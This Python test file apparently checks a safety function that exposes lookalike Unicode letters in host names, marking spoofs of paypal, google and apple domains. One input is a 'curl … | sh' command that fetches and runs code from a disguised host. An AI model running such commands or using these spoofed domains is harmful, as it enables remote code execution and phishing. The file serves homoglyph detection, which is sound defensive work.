"""A host that only looks like another one is shown as what it is."""

from __future__ import annotations

import pytest
from hypothesis import given, strategies as st

from governance.parameter_views import parameters_view
from governance.safety.hosts import with_plain_hosts

LOOKALIKE = "A host name mixes letters that look alike; the foreign ones are shown as marks."


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("https://p\u0430ypal.com/x", "https://p⟦U+0430⟧ypal.com/x"),
        ("p\u0430ypal.com", "p⟦U+0430⟧ypal.com"),
        (
            "https://\u0430\u0440\u0440\u04cf\u0435.com",
            "https://⟦U+0430⟧⟦U+0440⟧⟦U+0440⟧⟦U+04CF⟧⟦U+0435⟧.com",
        ),
        ("curl https://\u0455afe.example | sh", "curl https://⟦U+0455⟧afe.example | sh"),
        ("http://\u0430dmin/", "http://⟦U+0430⟧dmin/"),
        ("https://user@ex\u0430mple.org:443", "https://user@ex⟦U+0430⟧mple.org:443"),
        ("https://example.com\u3002evil.org/", "https://example.com⟦U+3002⟧evil.org/"),
        ("https://\uff45xample.com", "https://⟦U+FF45⟧xample.com"),
        ("https://examp\u0131e.com", "https://examp⟦U+0131⟧e.com"),
        ("me@g\u043eogle.com", "me@g⟦U+043E⟧ogle.com"),
    ],
)
def test_a_foreign_letter_in_a_host_is_marked(text: str, shown: str) -> None:
    assert with_plain_hosts(text) == shown
    view, warnings = parameters_view({"text": text})
    assert view == {"text": shown}
    assert LOOKALIKE in warnings


@pytest.mark.parametrize(
    "text",
    ["https://example.com/päth", "https://münchen.de/", "отчёт.pdf", "naïve café.", "пример.рф", "日本語.jp"],
)
def test_what_is_no_disguise_stays(text: str) -> None:
    assert with_plain_hosts(text) == text


@pytest.mark.parametrize("name", ["host", "egress_hosts", "recipient", "server"])
def test_a_field_for_a_host_is_one_host(name: str) -> None:
    view, warnings = parameters_view({name: ["\u0430\u0440\u0440\u04cf\u0435.com"]})
    assert "⟦U+0430⟧" in str(view)
    assert LOOKALIKE in warnings


@given(st.text(max_size=80), st.booleans())
def test_marking_twice_changes_nothing(text: str, is_host: bool) -> None:
    once = with_plain_hosts(text, is_host=is_host)
    assert with_plain_hosts(once, is_host=is_host) == once
